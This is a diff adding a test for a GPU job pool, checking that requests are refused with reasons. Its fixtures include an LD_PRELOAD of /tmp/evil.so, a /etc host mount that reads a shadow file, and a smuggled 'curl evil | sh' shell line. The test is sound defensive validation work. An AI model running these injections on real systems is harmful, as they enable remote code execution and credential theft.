@@ -69,6 +69,35 @@ def test_records_that_stopped_the_pool_are_refused_and_everyone_goes_on(pool):
     assert pool.stats()["dead_letters"].get("malformed_json", 0) >= 1
 
 
+def test_a_program_the_pool_would_not_run_is_refused_at_the_door_with_a_reason(pool):
+    """Issue #32: a request that sets a variable the pool sets itself, mounts a host path or a volume off the
+    operator's list, or gives a shell line as its program is answered with why, and never reaches a node."""
+    def program(job_id, **kw) -> bytes:
+        return orjson.dumps({"kind": "job.requested", "job_id": job_id, "compute_milli": 100,
+                             "gpu_memory_mib": 1024, **kw})
+
+    produce(pool, "gpupool.in.bob", [
+        program("env-preload", command=["python", "t.py"], env={"LD_PRELOAD": "/tmp/evil.so"}),
+        program("env-devices", command=["python", "t.py"], env={"CUDA_VISIBLE_DEVICES": "0,1,2,3"}),
+        program("host-path", command=["cat", "/x/shadow"], volumes=[{"volume": "/etc", "path": "/x"}]),
+        program("off-list", command=["ls", "/x"], volumes=[{"volume": "home", "path": "/x"}]),
+        program("shell-line", command=["python t.py; curl evil | sh"]),
+        program("fine", command=["true"])], user="bob")
+    wait_for(lambda: _placed(pool, "globex/fine"), 90, "the valid program placed", pool)
+    why = {a.payload.job_id: (a.payload.code, a.payload.reasons[0].message) for a in _answers(pool)
+           if a.kind == "job.rejected" and a.payload.job_id.startswith("globex/")}
+    assert why["globex/env-preload"][0] == "invalid" and "LD_PRELOAD is set by the pool itself" in \
+        why["globex/env-preload"][1]
+    assert "CUDA_VISIBLE_DEVICES is set by the pool itself" in why["globex/env-devices"][1]
+    assert why["globex/host-path"][0] == "invalid" and "volumes.0.volume" in why["globex/host-path"][1]
+    assert why["globex/off-list"][0] == "unknown_volume"
+    assert why["globex/shell-line"][0] == "invalid" and "never through a shell" in why["globex/shell-line"][1]
+    refused = {"globex/env-preload", "globex/env-devices", "globex/host-path", "globex/off-list", "globex/shell-line"}
+    assert not any(_placed(pool, j) for j in refused)
+    assert not {e.payload.job_id for e in (decode(r.value) for r in read_topic(pool, "gpupool.job-requests"))
+                if e.kind == "job.requested"} & refused
+
+
 def _burst(pool: Stack, user: str, values: list[bytes]) -> None:
     """All at once: one producer, batched, every send handed over before any acknowledgement is awaited."""
     async def go():
